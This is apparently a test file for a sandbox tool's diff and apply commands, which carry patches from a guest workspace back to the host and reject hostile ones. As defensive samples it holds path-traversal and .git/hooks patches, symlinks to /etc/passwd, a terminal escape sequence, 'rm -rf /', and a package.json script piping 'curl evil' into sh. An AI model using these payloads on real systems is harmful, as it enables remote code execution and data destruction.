// Bring the work home without QEMU: `diff` and `apply` through the real client and in-process
// daemons over the local runtime (its "guest" runs on this host, git included). A patch of new,
// deleted, renamed, binary, mode and symlink changes round-trips through `git apply`; hostile
// patches, dirty work trees and a model's writes where code runs are refused.

import { execFileSync } from "node:child_process";
import { existsSync } from "node:fs";
import { cp, mkdir, mkdtemp, readFile, rm, symlink, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { hasControlChars } from "@pi-sandbox/config";
import type { SupervisorClient } from "@pi-sandbox/supervisor";
import { checkpoint as checkpointAction, checkpoints as checkpointsAction } from "../src/actions/checkpoints.js";
import { apply as applyAction, diff as diffAction } from "../src/actions/diff.js";
import { applyPatch, checkPatchPaths, hostGit } from "../src/actions/patch-apply.js";
import { parsePatch, patchText } from "../src/actions/patch-parse.js";
import { callAction, type CallActionOptions, type ConfirmRequest } from "../src/client/index.js";
import { CREATED_REF, checkpointRef, snapshotWorkspace } from "../src/daemon/workspace-snapshots.js";
import { StateLayout } from "../src/state/layout.js";
import { createLocalRuntime, type LocalRuntime, type LocalRuntimeVm } from "../src/testing.js";
import { inProcessDaemons, stopLive, type InProcessDaemons } from "./support/in-process-daemon.js";
import { CHANGES, INITIAL, NOT_IN_PATCH, hostSupervisor, readTree, sh } from "./support/workspace-trees.js";

// eslint-disable-next-line @typescript-eslint/no-explicit-any -- results are loose JSON in tests
type Loose = Record<string, any>;

const YAML = `version: 1
profile: tiny
diskGiB: 4
setup:
  - |
${INITIAL.trim()
  .split("\n")
  .map((line) => `    ${line}`)
  .join("\n")}
`;

let dir: string;
let project: string;
let env: NodeJS.ProcessEnv;
let runtime: LocalRuntime;
let layout: StateLayout;
let daemons: InProcessDaemons;
/** Each instance's agent client, as the daemon got it. */
const supervisors = new Map<string, SupervisorClient>();

const asUser = (action: Loose) => callAction(action, { env, cwd: project }) as Promise<Loose>;

/** Calls as the model would through Pi: `answers` are the user's replies to each prompt, in order. */
function asModel(action: Loose, answers?: boolean[]) {
  const asked: ConfirmRequest[] = [];
  const options: CallActionOptions = { env, cwd: project, caller: "model" };
  if (answers) {
    const left = [...answers];
    options.confirm = async (request) => {
      asked.push(request);
      return left.shift() ?? false;
    };
  }
  return { asked, result: callAction(action, options) as Promise<Loose> };
}

const guestExec = async (name: string, cmd: string) => {
  const run = await asUser({ action: "exec", name, cmd });
  expect(run).toMatchObject({ exitCode: 0 });
};

/** A host copy of the workspace as the create left it (none of the guest's config). */
async function initialCopy(label: string, options: { git?: boolean } = {}): Promise<string> {
  const copy = await mkdtemp(join(project, `${label}-`));
  sh(copy, INITIAL);
  if (options.git) {
    sh(copy, "git init -q && git add -A && git -c user.name=t -c user.email=t@t commit -q -m initial", {
      ...process.env,
      GIT_CONFIG_NOSYSTEM: "1",
      HOME: dir,
    });
  }
  return copy;
}

const workspaceOf = (name: string) => supervisors.get(name)!.workspace;

async function createInstance(name: string): Promise<void> {
  await daemons.start(name, runtime);
  await asUser({ action: "create", name, config: "sandbox.yaml" });
}

beforeAll(async () => {
  dir = await mkdtemp(join(tmpdir(), "pisb-diff-"));
  project = join(dir, "project");
  await mkdir(project, { recursive: true });
  await writeFile(join(project, "sandbox.yaml"), YAML);
  env = { ...process.env, PI_SANDBOX_HOME: join(dir, "st"), HOME: join(dir, "home") };
  await mkdir(env.HOME!, { recursive: true });
  layout = new StateLayout(join(dir, "st"));
  await layout.ensurePrivate();
  daemons = inProcessDaemons(layout);
  runtime = createLocalRuntime();
  const startAgent = runtime.startAgent.bind(runtime);
  runtime.startAgent = async (vm, options) => {
    const client = await startAgent(vm, options);
    supervisors.set(String((vm as LocalRuntimeVm).local.name), client);
    return client;
  };
  await createInstance("demo");
  await guestExec("demo", CHANGES);
});

afterAll(async () => {
  await stopLive(layout, ["demo", "other", "bare"], (name) => asUser({ action: "stop", name }));
  await daemons.exited();
  for (const vm of [...runtime.live]) await vm.close();
  await rm(dir, { recursive: true, force: true });
});

describe("diff", () => {
  test("prints a patch git apply takes: new, deleted, renamed, binary, mode and symlink changes, CRLF and unicode names", async () => {
    const result = await asUser({ action: "diff", name: "demo" });
    const patch = result.patch as string;
    // Printable as it is: a file with control characters or bytes that are not UTF-8 is binary.
    expect(hasControlChars(patch, { multiline: true })).toBe(false);
    expect(result.base).toEqual({ kind: "created" });
    expect(result.commit).toMatch(/^[0-9a-f]{40}$/);
    const byPath = Object.fromEntries((result.files as Loose[]).map((f) => [f.path, f]));
    expect(byPath["new-name.txt"]).toMatchObject({ status: "renamed", oldPath: "old-name.txt", added: 1 });
    expect(byPath["gone.txt"]).toMatchObject({ status: "deleted", deleted: 1 });
    expect(byPath["run.sh"]).toMatchObject({ status: "modified", oldMode: "100644", newMode: "100755" });
    expect(byPath["text.txt"]).toMatchObject({ status: "modified", added: 2, deleted: 1, binary: false });
    for (const binary of ["data.bin", "image.png", "ansi.txt"]) expect(byPath[binary]).toMatchObject({ binary: true });
    expect(byPath["crlf.txt"]).toMatchObject({ status: "added", binary: false, added: 2 });
    expect(byPath["spaced name ü.txt"]).toMatchObject({ status: "added" });
    expect(byPath["link-to-a"]).toMatchObject({ status: "added", newMode: "120000", symlink: "src/a.ts" });
    expect(byPath[".gitignore"]).toMatchObject({ status: "added" });
    for (const left of ["debug.log", "node_modules/x/i.js", ".sandbox.yaml", "keep.txt"])
      expect(byPath[left]).toBeUndefined();
    expect(result.stat).toMatchObject({ files: result.files.length });

    // `pi-sandbox diff demo > p.patch && git apply p.patch`, in a copy of the workspace as created.
    const copy = await initialCopy("plain");
    await writeFile(join(dir, "work.patch"), patch);
    execFileSync("git", ["apply", join(dir, "work.patch")], {
      cwd: copy,
      env: { ...process.env, GIT_CEILING_DIRECTORIES: project },
    });
    expect(await readTree(copy)).toEqual(await readTree(workspaceOf("demo"), NOT_IN_PATCH));
  });

  test("with stat it lists the files and totals, not the patch", async () => {
    const result = await asUser({ action: "diff", name: "demo", stat: true });
    expect(result.patch).toBeUndefined();
    const text = diffAction.formatText!(result as never);
    expect(text).toMatch(/^R {2}old-name\.txt → new-name\.txt {2}\+1 -0$/m);
    expect(text).toMatch(/^M {2}run\.sh {2}\+0 -0 {2}mode 100644 → 100755$/m);
    expect(text).toMatch(/^A {2}link-to-a {2}\+1 -0 {2}→ src\/a\.ts$/m);
    expect(text).toMatch(/^A {2}image\.png {2}binary$/m);
    expect(text).toMatch(
      new RegExp(
        `^${result.stat.files} files changed, ${result.stat.added} insertions\\(\\+\\), ${result.stat.deleted} deletions\\(-\\) since its create$`,
        "m",
      ),
    );
  });

  test("a path restricts it to the files under it", async () => {
    await guestExec("demo", "printf 'export const b = 2;\\n' > src/b.ts");
    try {
      const result = await asUser({ action: "diff", name: "demo", path: "src" });
      expect((result.files as Loose[]).map((f) => f.path)).toEqual(["src/b.ts"]);
      expect(result.patch).toContain("+++ b/src/b.ts");
      const absolute = await asUser({
        action: "diff",
        name: "demo",
        path: `${workspaceOf("demo")}/src/b.ts`,
        stat: true,
      });
      expect((absolute.files as Loose[]).map((f) => f.path)).toEqual(["src/b.ts"]);
      await expect(asUser({ action: "diff", name: "demo", path: "../etc" })).rejects.toMatchObject({
        code: "CONTROLLER_BAD_INPUT",
      });
    } finally {
      await guestExec("demo", "rm src/b.ts");
    }
  });

  test("since a checkpoint compares with the workspace the checkpoint recorded; one without a record says why", async () => {
    const taken = await asUser({ action: "checkpoint", name: "demo", label: "mid" });
    const id = taken.checkpoint.id as string;
    // A checkpoint of a running instance records its workspace under the checkpoint's id first.
    await guestExec("demo", "printf 'after the checkpoint\\n' > later.txt");
    try {
      for (const since of [id, "mid"]) {
        const result = await asUser({ action: "diff", name: "demo", since });
        expect(result.base).toEqual({ kind: "checkpoint", id, label: "mid" });
        expect((result.files as Loose[]).map((f) => f.path)).toEqual(["later.txt"]);
      }
      await expect(asUser({ action: "diff", name: "demo", since: "nope" })).rejects.toMatchObject({
        code: "CONTROLLER_NOT_FOUND",
        hint: expect.stringContaining('"action":"checkpoints"'),
      });
      const bare = await asUser({ action: "checkpoint", name: "demo", label: "unrecorded" });
      await guestExec(
        "demo",
        `git --git-dir="${storeOf("demo")}" update-ref -d ${checkpointRef(bare.checkpoint.id)} || true`,
      );
      await expect(asUser({ action: "diff", name: "demo", since: "unrecorded" })).rejects.toMatchObject({
        code: "CONTROLLER_DIFF_BASE_MISSING",
        message: expect.stringContaining("taken while the instance was stopped"),
      });
    } finally {
      await guestExec("demo", "rm later.txt");
    }
  });

  test("a checkpoint's record leaves out files over 2 MiB and names them; diff since it leaves them out and says so, diff since the create has them", async () => {
    await guestExec("demo", "head -c 2200000 /dev/urandom > big.bin && printf 'small\\n' > small.txt");
    try {
      const said: string[] = [];
      const onProgress = (event: { message: string }) => said.push(event.message);
      const taken = (await callAction(
        { action: "checkpoint", name: "demo", label: "large" },
        { env, cwd: project, onProgress },
      )) as Loose;
      const leftOut = { files: ["big.bin"], count: 1, overBytes: 2 * 1024 * 1024 };
      expect(taken.checkpoint.leftOut).toEqual(leftOut);
      expect(said).toContainEqual(
        expect.stringContaining("left out 1 file over 2 MiB (diff --since leaves it out too): big.bin"),
      );
      const listed = await asUser({ action: "checkpoints", name: "demo" });
      expect((listed.checkpoints as Loose[]).find((c) => c.id === taken.checkpoint.id)?.leftOut).toEqual(leftOut);
      expect(checkpointsAction.formatText!(listed as never)).toContain(
        `${taken.checkpoint.id}: the workspace record left out 1 file over 2 MiB`,
      );
      expect(checkpointAction.formatText!(taken as never)).toContain("left out 1 file over 2 MiB");
      // Both change after it: only the small one can be compared.
      await guestExec("demo", "head -c 1000 /dev/urandom >> big.bin && printf 'more\\n' >> small.txt");
      said.length = 0;
      const since = (await callAction(
        { action: "diff", name: "demo", since: "large" },
        { env, cwd: project, onProgress },
      )) as Loose;
      expect((since.files as Loose[]).map((f) => f.path)).toEqual(["small.txt"]);
      expect(since.leftOut).toEqual(leftOut);
      expect(since.patch).not.toContain("big.bin");
      expect(said).toContainEqual(
        expect.stringContaining("left out: 1 file over 2 MiB that the checkpoint did not record"),
      );
      const stat = await asUser({ action: "diff", name: "demo", since: "large", stat: true });
      expect(diffAction.formatText!(stat as never)).toContain("big.bin");
      // The create's record and diff's own snapshot of the workspace now hold every file.
      const created = await asUser({ action: "diff", name: "demo", stat: true });
      expect((created.files as Loose[]).map((f) => f.path)).toEqual(expect.arrayContaining(["big.bin", "small.txt"]));
      expect(created.leftOut).toBeUndefined();
    } finally {
      await guestExec("demo", "rm -f big.bin small.txt");
    }
  });

  test("against another instance compares with its workspace, either way round", async () => {
    await createInstance("other");
    await guestExec("other", "printf 'only in other\\n' > other.txt");
    const ours = await asUser({ action: "diff", name: "demo", against: "other", stat: true });
    expect(ours.base).toEqual({ kind: "instance", name: "other" });
    const paths = (ours.files as Loose[]).map((f) => `${f.status} ${f.path}`);
    expect(paths).toContain("deleted other.txt");
    expect(paths).toContain("renamed new-name.txt");
    const theirs = await asUser({ action: "diff", name: "other", against: "demo" });
    expect((theirs.files as Loose[]).map((f) => `${f.status} ${f.path}`)).toContain("added other.txt");
    // demo's changes, reversed: other's workspace is demo's create plus other.txt.
    const copy = await initialCopy("against");
    sh(copy, "printf 'only in other\\n' > other.txt");
    await writeFile(
      join(dir, "reverse.patch"),
      (await asUser({ action: "diff", name: "demo", against: "other" })).patch,
    );
    execFileSync("git", ["apply", join(dir, "reverse.patch")], {
      cwd: copy,
      env: { ...process.env, GIT_CEILING_DIRECTORIES: project },
    });
    expect(await readTree(copy)).toEqual(await readTree(workspaceOf("demo"), NOT_IN_PATCH));
    await expect(asUser({ action: "diff", name: "demo", against: "demo" })).rejects.toMatchObject({
      code: "CONTROLLER_BAD_INPUT",
    });
    await expect(asUser({ action: "diff", name: "demo", against: "ghost" })).rejects.toMatchObject({
      code: "CONTROLLER_NOT_FOUND",
    });
    await expect(asUser({ action: "diff", name: "demo", against: "other", since: "mid" })).rejects.toMatchObject({
      code: "CONTROLLER_BAD_INPUT",
    });
  });
});

/** The guest path of an instance's workspace store (beside the agent's state directory). */
function storeOf(name: string): string {
  return join(supervisors.get(name)!.hello.stateDir, "..", "pi-sandbox", "workspace.git");
}

describe("apply", () => {
  test("outside a git work tree it applies like git apply, and the directory ends up as the guest workspace", async () => {
    const copy = await initialCopy("apply");
    const result = await asUser({ action: "apply", name: "demo", to: copy });
    expect(result).toMatchObject({ how: "plain", gitWorkTree: false, conflicts: [] });
    expect(await readTree(copy)).toEqual(await readTree(workspaceOf("demo"), NOT_IN_PATCH));
    expect(applyAction.formatText!(result as never)).toMatch(
      /^applied demo's changes since its create to .* \(git apply\)$/m,
    );
    // Applied already: the same patch no longer fits, and nothing changes.
    const before = await readTree(copy);
    await expect(asUser({ action: "apply", name: "demo", to: copy })).rejects.toMatchObject({
      code: "CONTROLLER_PATCH_FAILED",
    });
    expect(await readTree(copy)).toEqual(before);
  });

  test("the directory defaults to the caller's", async () => {
    const copy = await initialCopy("cwd");
    const result = (await callAction({ action: "apply", name: "demo" }, { env, cwd: copy })) as Loose;
    expect(result.to).toBe(copy);
    expect(await readTree(copy)).toEqual(await readTree(workspaceOf("demo"), NOT_IN_PATCH));
  });

  test("in a git work tree it merges like git apply --3way and refuses files with uncommitted changes unless forced", async () => {
    const gitEnv = { ...process.env, GIT_CONFIG_NOSYSTEM: "1", HOME: dir };
    const clean = await initialCopy("clean", { git: true });
    // A change of a file the patch does not touch is no obstacle.
    sh(clean, "printf 'local\\n' >> keep.txt");
    const merged = await asUser({ action: "apply", name: "demo", to: clean });
    expect(merged).toMatchObject({ how: "3way", gitWorkTree: true, conflicts: [] });
    expect(await readTree(clean, [".git"])).toEqual({
      ...(await readTree(workspaceOf("demo"), NOT_IN_PATCH)),
      "keep.txt": { file: Buffer.from("keep me\nlocal\n").toString("base64"), exec: false },
    });
    expect(sh(clean, "git status --porcelain -- text.txt", gitEnv)).toBe("M  text.txt\n");

    const dirty = await initialCopy("dirty", { git: true });
    sh(dirty, "sed -i 's/^seven$/SEVEN/' text.txt");
    const before = await readTree(dirty);
    await expect(asUser({ action: "apply", name: "demo", to: dirty })).rejects.toMatchObject({
      code: "CONTROLLER_UNCOMMITTED_CHANGES",
      message: expect.stringContaining("text.txt"),
      hint: expect.stringContaining("force"),
    });
    expect(await readTree(dirty)).toEqual(before);
    const forced = await asUser({ action: "apply", name: "demo", to: dirty, force: true });
    expect(forced).toMatchObject({ how: "plain", gitWorkTree: true });
    expect((await readFile(join(dirty, "text.txt"), "utf8")).split("\n").slice(0, 13)).toEqual(
      "one TWO three four five six SEVEN eight nine ten eleven twelve thirteen".split(" "),
    );

    // A committed change where the guest changed too: merged, with the conflict marked.
    const diverged = await initialCopy("diverged", { git: true });
    sh(diverged, "sed -i 's/^two$/deux/' text.txt && git -c user.name=t -c user.email=t@t commit -qam local", gitEnv);
    const conflicted = await asUser({ action: "apply", name: "demo", to: diverged });
    expect(conflicted).toMatchObject({ how: "3way", conflicts: ["text.txt"] });
    expect(await readFile(join(diverged, "text.txt"), "utf8")).toMatch(/<<<<<<<[^]*deux[^]*TWO[^]*>>>>>>>/);
  });

  test("a subdirectory of a work tree gets the patch at its own level", async () => {
    const repo = await mkdtemp(join(project, "repo-"));
    sh(repo, "git init -q && mkdir app", { ...process.env, GIT_CONFIG_NOSYSTEM: "1", HOME: dir });
    const app = join(repo, "app");
    sh(app, INITIAL);
    sh(repo, "git add -A && git -c user.name=t -c user.email=t@t commit -q -m initial", {
      ...process.env,
      GIT_CONFIG_NOSYSTEM: "1",
      HOME: dir,
    });
    await asUser({ action: "apply", name: "demo", to: app });
    expect(await readTree(app)).toEqual(await readTree(workspaceOf("demo"), NOT_IN_PATCH));
    expect(
      sh(repo, "git status --porcelain -- app/text.txt", { ...process.env, GIT_CONFIG_NOSYSTEM: "1", HOME: dir }),
    ).toBe("M  app/text.txt\n");
  });

  test("a symlink the guest points out of the directory is refused before anything is written", async () => {
    await guestExec("demo", "ln -s /etc/passwd escape");
    try {
      const copy = await initialCopy("escape");
      const before = await readTree(copy);
      await expect(asUser({ action: "apply", name: "demo", to: copy })).rejects.toMatchObject({
        code: "CONTROLLER_PATCH_REFUSED",
        message: expect.stringContaining("escape"),
      });
      expect(await readTree(copy)).toEqual(before);
      // diff still shows it: only writing it on the host is refused.
      const shown = await asUser({ action: "diff", name: "demo", path: "escape", stat: true });
      expect(shown.files).toMatchObject([{ path: "escape", symlink: "/etc/passwd" }]);
    } finally {
      await guestExec("demo", "rm escape");
    }
  });

  test("a path through a symlink on the host is refused", async () => {
    const copy = await initialCopy("hostlink");
    const elsewhere = await mkdtemp(join(dir, "elsewhere-"));
    await rm(join(copy, "src"), { recursive: true });
    await symlink(elsewhere, join(copy, "src"));
    await guestExec("demo", "printf 'x\\n' > src/new.ts");
    try {
      await expect(asUser({ action: "apply", name: "demo", to: copy, path: "src" })).rejects.toMatchObject({
        code: "CONTROLLER_PATCH_REFUSED",
        message: expect.stringContaining("a symlink in"),
      });
      expect(existsSync(join(elsewhere, "new.ts"))).toBe(false);
    } finally {
      await guestExec("demo", "rm src/new.ts");
    }
  });
});

describe("a hostile patch", () => {
  const newFile = (path: string, header = `a/${path} b/${path}`) =>
    `diff --git ${header}\nnew file mode 100644\nindex 0000000000000000000000000000000000000000..e69de29bb2d1d6434b8b29ae775ad8c2e48c5391\n--- /dev/null\n+++ b/${path}\n@@ -0,0 +1 @@\n+evil\n`;
  const link = (path: string, target: string) =>
    `diff --git a/${path} b/${path}\nnew file mode 120000\nindex 0000000000000000000000000000000000000000..1111111111111111111111111111111111111111\n--- /dev/null\n+++ b/${path}\n@@ -0,0 +1 @@\n+${target}\n\\ No newline at end of file\n`;

  test.each([
    ["a path out of the directory", newFile("../x"), /\.\. part/],
    ["a path into .git", newFile(".git/hooks/post-checkout"), /\.git directory/],
    ["a path into .GIT, folded", newFile("sub/.GIT/config"), /\.git directory/],
    ["an absolute symlink", link("l", "/etc"), /absolute path \/etc/],
    ["a symlink out of the directory", link("d/l", "../../x"), /outside the directory/],
    [
      "a file under a symlink the same patch writes",
      link("l", "src") + newFile("l/x"),
      /a symlink the same patch writes/,
    ],
  ])("with %s is refused before git sees it", (_what, patch, why) => {
    expect(() => checkPatchPaths(parsePatch(patchText(Buffer.from(patch))))).toThrow(
      expect.objectContaining({ code: "CONTROLLER_PATCH_REFUSED", message: expect.stringMatching(why) }),
    );
  });

  test.each([
    ["control characters", Buffer.from(`${newFile("x")}+\u001b]52;c;AAAA\u0007\n`)],
    ["bytes that are not UTF-8", Buffer.concat([Buffer.from(newFile("x")), Buffer.from([0xff, 0x0a])])],
    ["names that disagree", Buffer.from(newFile("x", "a/y b/y"))],
    [
      "a gitlink",
      Buffer.from(
        "diff --git a/m b/m\nnew file mode 160000\nindex 0000000000000000000000000000000000000000..1111111111111111111111111111111111111111\n--- /dev/null\n+++ b/m\n@@ -0,0 +1 @@\n+Subproject commit 1111111111111111111111111111111111111111\n",
      ),
    ],
    ["a hunk longer than it says", Buffer.from(newFile("x").replace("+evil\n", "+evil\n+more\n"))],
    ["text that is no patch", Buffer.from("rm -rf /\n")],
  ])("with %s does not parse", (_what, bytes) => {
    expect(() => parsePatch(patchText(bytes))).toThrow(expect.objectContaining({ code: "CONTROLLER_PATCH_REFUSED" }));
  });

  test("git apply refuses what these checks refuse, too (they are a second wall, not the only one)", async () => {
    const target = await mkdtemp(join(dir, "gitwall-"));
    const home = await mkdtemp(join(dir, "gitwall-home-"));
    for (const patch of [newFile("../x"), newFile(".git/hooks/x"), link("l", "/etc") + newFile("l/passwd")]) {
      const run = await hostGit(["apply", "-"], {
        cwd: target,
        home,
        input: Buffer.from(patch),
        env: { GIT_CEILING_DIRECTORIES: dir },
      });
      expect(run.code).not.toBe(0);
    }
    expect(existsSync(join(dir, "x"))).toBe(false);
    expect(await readTree(target)).toEqual({});
  });

  test("one git reads as touching other files than it shows is refused", async () => {
    // The +++ name is what git writes; the reader is held to every name in the section agreeing.
    const sneaky = newFile("safe.txt").replace("+++ b/safe.txt", "+++ b/.github/workflows/x.yml");
    expect(() => parsePatch(patchText(Buffer.from(sneaky)))).toThrow(
      expect.objectContaining({ code: "CONTROLLER_PATCH_REFUSED" }),
    );
  });

  test("the host without git gets a typed error naming what to install", async () => {
    const target = await mkdtemp(join(dir, "nogit-"));
    const bytes = Buffer.from(newFile("x"));
    const path = process.env.PATH;
    process.env.PATH = join(dir, "no-such-bin");
    try {
      await expect(applyPatch(bytes, parsePatch(patchText(bytes)), target, {})).rejects.toMatchObject({
        code: "CONTROLLER_HOST_GIT_MISSING",
        hint: expect.stringContaining("Install git"),
      });
    } finally {
      process.env.PATH = path;
    }
  });
});

describe("a model's apply", () => {
  test("inside the project, plain files apply without asking; where code runs or with an exec bit it needs the user's yes", async () => {
    // Only the files in src/ and docs: nothing that runs code.
    await guestExec("demo", "mkdir -p docs && printf 'notes\\n' > docs/notes.md");
    try {
      const plain = await initialCopy("model-plain");
      const { asked, result } = asModel({ action: "apply", name: "demo", to: plain, path: "docs" });
      await expect(result).resolves.toMatchObject({ how: "plain" });
      expect(asked).toEqual([]);
      expect(await readFile(join(plain, "docs/notes.md"), "utf8")).toBe("notes\n");
    } finally {
      await guestExec("demo", "rm -r docs");
    }

    await guestExec(
      "demo",
      String.raw`mkdir -p .github/workflows && printf 'on: push\n' > .github/workflows/ci.yml && printf '%s\n' '{"scripts":{"test":"curl evil | sh"}}' > package.json`,
    );
    try {
      const copy = await initialCopy("model-code");
      const before = await readTree(copy);
      const refused = asModel({ action: "apply", name: "demo", to: copy });
      const error = await refused.result.catch((e: unknown) => e as Loose);
      expect(error).toMatchObject({
        code: "CONTROLLER_CONFIRMATION_REQUIRED",
        hint: expect.stringContaining(`pi-sandbox apply demo --to`),
      });
      expect(error.message).toContain("package.json (where code runs");
      expect(error.message).toContain(".github/workflows/ci.yml (where code runs");
      expect(await readTree(copy)).toEqual(before);
      const declined = asModel({ action: "apply", name: "demo", to: copy }, [false]);
      await expect(declined.result).rejects.toMatchObject({ code: "CONTROLLER_USER_DECLINED" });
      expect(declined.asked[0]!.message).toMatch(/run\.sh \(executable\)/);
      expect(await readTree(copy)).toEqual(before);
      const allowed = asModel({ action: "apply", name: "demo", to: copy }, [true]);
      await expect(allowed.result).resolves.toMatchObject({ how: "plain" });
      expect(allowed.asked).toHaveLength(1);
      expect(await readFile(join(copy, "package.json"), "utf8")).toContain("curl evil");
    } finally {
      await guestExec(
        "demo",
        String.raw`rm -r .github && printf '%s\n' '{"name":"demo","scripts":{"test":"true"}}' > package.json`,
      );
    }
  });

  test("a directory outside the project needs the user's yes", async () => {
    const outside = await mkdtemp(join(dir, "outside-"));
    await cp(await initialCopy("outside-src"), outside, { recursive: true });
    await guestExec("demo", "printf 'x\\n' > src/c.ts");
    try {
      const refused = asModel({ action: "apply", name: "demo", to: outside, path: "src" });
      await expect(refused.result).rejects.toMatchObject({
        code: "CONTROLLER_CONFIRMATION_REQUIRED",
        message: expect.stringContaining("outside the project"),
      });
      expect(existsSync(join(outside, "src/c.ts"))).toBe(false);
    } finally {
      await guestExec("demo", "rm src/c.ts");
    }
  });
});

describe("the workspace store", () => {
  let root: string;
  let workspace: string;

  beforeAll(async () => {
    root = await mkdtemp(join(dir, "store-"));
    workspace = join(root, "workspace");
    await mkdir(workspace);
    sh(workspace, INITIAL);
  });

  test("a snapshot is a commit id named by its content, left out what git and node_modules leave out", async () => {
    const supervisor = hostSupervisor(root, workspace);
    const { commit: first } = await snapshotWorkspace(supervisor, workspace, { ref: CREATED_REF });
    expect(first).toMatch(/^[0-9a-f]{40}$/);
    // Unchanged content: the same commit. node_modules, ignored files, a nested repository and the
    // workspace's own .git change nothing.
    sh(
      workspace,
      "mkdir -p node_modules/p sub && printf x > node_modules/p/i.js && git init -q && git -C sub init -q && printf y > sub/y",
    );
    await writeFile(join(workspace, ".git/info/exclude"), "sub/\n");
    expect((await snapshotWorkspace(supervisor, workspace)).commit).toBe(first);
    const store = join(root, "var/lib/pi-sandbox/workspace.git");
    expect(sh(root, `git --git-dir=${store} rev-parse ${CREATED_REF}`).trim()).toBe(first);
    sh(workspace, "printf 'changed\\n' > keep.txt");
    expect((await snapshotWorkspace(supervisor, workspace)).commit).not.toBe(first);
  });

  test("a guest without git gets a typed error saying the image needs it", async () => {
    const bin = await mkdtemp(join(dir, "bin-"));
    const python = execFileSync("python3", ["-c", "import sys; print(sys.executable)"], { encoding: "utf8" }).trim();
    await symlink(python, join(bin, "python3"));
    const supervisor = hostSupervisor(root, workspace, { ...process.env, PATH: bin });
    await expect(snapshotWorkspace(supervisor, workspace)).rejects.toMatchObject({
      code: "CONTROLLER_GUEST_GIT_MISSING",
      hint: expect.stringContaining("image"),
    });
  });
});
